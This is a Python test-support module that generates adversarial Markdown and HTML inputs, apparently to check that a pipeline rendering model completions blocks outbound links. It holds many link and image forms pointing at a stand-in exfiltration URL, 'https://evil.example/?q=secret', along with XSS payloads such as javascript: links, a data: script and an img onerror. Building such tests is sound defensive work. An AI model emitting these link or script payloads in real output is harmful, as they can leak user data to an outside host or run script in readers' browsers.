"""Completions that try to lead elsewhere: forms of links, code that renderers pair differently, fragments at random."""

import json
import random
from collections.abc import Iterator, Mapping
from functools import cache
from itertools import product
from pathlib import Path

import pytest
from attacks.stage import HELD

DATA = Path(__file__).resolve().parents[3] / "shared" / "data" / "adversarial"
LISTS: Mapping[str, Path] = {"naughty strings": DATA / "blns" / "blns.json", "scripts": DATA / "xss" / "sample500.json"}
EVIL = "https://evil.example/?q=secret"
FORMS = (
    "[x]({evil})", "![x]({evil})", "<{evil}>", "{evil}", "www.evil.example/x", "[x]: {evil}\n\n[x] [y][x] ![z][x]",
    "[x]:\n{evil}\n'title'\n\n[x]", "![x]\n\n[x]: {evil}", "[![x]({evil})](https://permits.example/import)",
    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](https:evil.example)", "[x](/\\evil.example)",
    "[x](https://permits.example@evil.example/import)", "[x](https://permits.example.evil.example/import)",
    "[x](https://permits.example/import.evil.example)", "https://permits.example*.evil.example/import",
    "https://permits.example\\.evil.example/import", "https&colon;//evil.example", "https\\://evil.example",
    "&#104;ttps://evil.example", "[x](java&#115;cript:alert(1))", "[x](javascript:alert(1))", "<javascript:alert(1)>",
    "[x](JaVaScRiPt:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)", "[x](&#x0001;javascript:alert(1))", "\\`![x]({evil})`", "```a`b\n![x]({evil})",
    "text\n    ```\n![x]({evil})", "> ```\n![x]({evil})", "```\nx\n``` y\n![x]({evil})\n```\n![x]({evil})",
    "- ```\n\n![x]({evil})", "| a | b |\n|---|---|\n| ![x]({evil}) | [x|y]({evil}) |", "| [a | b]({evil}) |",
    "![a\nb](\n{evil}\n'c')", "> ![a\n> b]({evil})", "[id_1]({evil})", "[Import permits]({evil})",
    "[Import permits]: {evil}", "(Source: {evil})", "[^1]: {evil}", "[^1]:\n\n    ![x]({evil})", "` {evil} ``",
    "# ![x]({evil})", "![x]({evil})\n===", "**![x]({evil})**", "<img src={evil}>", "<a href='{evil}'>x</a>",
    "<div>\n\n![x]({evil})\n\n</div>", "<!-- > -->![x]({evil})", "<script>x</script>", "<style>@import '{evil}'",
    "a@evil.example", "<a@evil.example>", "mailto:a@evil.example", "ftp://evil.example", "[x](ftp://evil.example)",
    "\r![x]({evil})\r\n[y]({evil})", "![x]({evil}" + "\u200b)", "[x](https://permits.example\u3002evil.example)",
    "[" * 12 + "x" + "]({evil})" * 12, "![" * 12 + "x" + "]({evil})" * 12, "\\[x]({evil})", "!\\[x]({evil})",
    "[x]\\({evil})", "*a `b* {evil} c`d", "<https://permits.example/import >{evil}", "\ue000![x]({evil})",
)  # fmt: skip
TAKERS = (
    HELD[0], f"({HELD[0]}", "www.permits.example/import", HELD[3], f"mailto:{HELD[3]}", "https://", "www.", "www.e",
    "https://evil.example", "1https://evil.example", "xhttps://e", "https\uff1a//e.example", "\\a@evil.example", "$",
    "\\", "``", "[x", "|", "a\n-|-\n", "<td>|", "<b title='", "&#96;",
)  # fmt: skip
"""What some renderers join a tick to, or end a line or a cell with, before they look for code."""
LEADING = ("![b]({evil})", "[b]({evil})", "<img src=//evil.example/p onerror=x()>", "<a href={evil}>x</a>", "{evil}")
CODES = [form.format(one.format(evil=EVIL)) for form in ("`{}`", "` {} `", "``{}``", "`{}", "{}`") for one in LEADING]
SPREAD = (
    "``www.e`{}` ``", "``www.e`{}`", "- |`\n-|-\n``{}``", "| a | `b |\n| - | - |\n| {} | ` |", "`a\n- {}`",
    "$ ` $ {} `", "[a`{}`", "`a\n# {}`", "> `a\n> | {} `", "<td>|{}", "<table><tr><td>a|{}</td></tr></table>",
    "\\|{} |", f"{HELD[0]}*{{}}", f"{HELD[0]}|{{}}", f"{HELD[0]}[{{}}", f"{HELD[0]}\\{{}}", f"{HELD[0]}{{}}",
    f"{HELD[0]}\x0b{{}}",
)  # fmt: skip
ATOMS = (
    *"[]()!<>`|*_~\\&@$\n .", "``", "```\n", "\n\n", "    ", "> ", "- ", "\n|-|-|\n", "&#58;", "[x]: ", "[^1]:",
    "\ufeff", "\x0b",
    "https://", "www.", "//", "x", EVIL, HELD[0], HELD[3], "![x](", "[x](", "<b>", "<td>", "</td>", "<table><tr><td>",
    "<li>", "<!--", "<pre>", "<code>",
)  # fmt: skip


def forms() -> list[str]:
    """``FORMS`` that lead to ``EVIL``."""
    return [form.format(evil=EVIL) if "{evil}" in form else form for form in FORMS]


def around(said: str, mark: str) -> tuple[str, str, str]:
    """``said`` alone, behind an answer, and before a mark and in a list."""
    return said, f"Five days.\n\n{said} {mark}", f"{mark} {said}\n\n- {said}\n  {said}"


def ticks() -> list[str]:
    """Code that renderers begin in different places."""
    found = ["".join(parts) for parts in product(TAKERS, CODES)]
    return found + [form.format(one.format(evil=EVIL)) for form, one in product(SPREAD, LEADING)]


def drawn(count: int, draw: random.Random) -> Iterator[str]:
    """``count`` texts of up to 24 ``ATOMS``."""
    for _ in range(count):
        yield "".join(draw.choices(ATOMS, k=draw.randint(1, 24)))


@cache
def strings(name: str) -> list[str]:
    """The strings of the list of that ``name``; skips where it is absent."""
    if not LISTS[name].is_file():
        pytest.skip("needs ../shared/data/adversarial")
    found = json.loads(LISTS[name].read_text(encoding="utf-8"))
    return [one if isinstance(one, str) else json.dumps(one) for one in found]


CHOSEN = (*forms()[::3], *ticks()[::100])[:30]
"""What each profile's whole pipeline is asked for."""
